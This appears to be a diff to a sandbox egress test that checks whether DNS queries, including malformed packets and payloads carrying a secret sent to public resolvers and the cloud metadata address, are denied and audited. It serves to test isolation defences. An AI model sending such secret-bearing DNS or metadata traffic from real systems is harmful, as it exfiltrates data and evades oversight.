@@ -1,7 +1,9 @@
 # id: NT-05.every-form   class: EXFIL   backends: native gvisor   limits: wallClockSeconds=60
 # expect-phase: succeeded   expect-stdout: ^done$   expect-not: HELD
 # expect-sum: egress_denied tried
-# expect-audit: egress_denied host=(malformed) via=dns
+# expect-audit: egress_denied host=8.8.8.8 ip=8.8.8.8 port=53 proto=udp via=dns
+# expect-audit: egress_denied host=169.254.169.254 ip=169.254.169.254 port=53 proto=udp via=dns
+# expect-audit: egress_denied host=2001:4860:4860::8844 ip=2001:4860:4860::8844 port=53 proto=udp via=dns
 # Questions in every form, to every server: an answer names the gate or nobody,
 # never carries data, and each question is recorded.
 import itertools, os, random, socket, struct
@@ -74,6 +76,8 @@ broken = [b"", b"\0", bytes(11), bytes(12), question("q.example", flags=0x8180),
           struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\x3fshort", os.urandom(600), secret.encode() * 20]
 for packet in broken:
     ask(packet, wait=0.1)
+for server in ("169.254.169.254", "2001:4860:4860::8844"):
+    ask(secret.encode(), (server, 53), 0.1)
 # Over TCP and TLS, over HTTPS: refused like every connect.
 for host, port in (("8.8.8.8", 53), ("1.1.1.1", 853), ("8.8.4.4", 443), ("198.18.0.1", 53), ("9.9.9.9", 8853)):
     with socket.socket() as s:
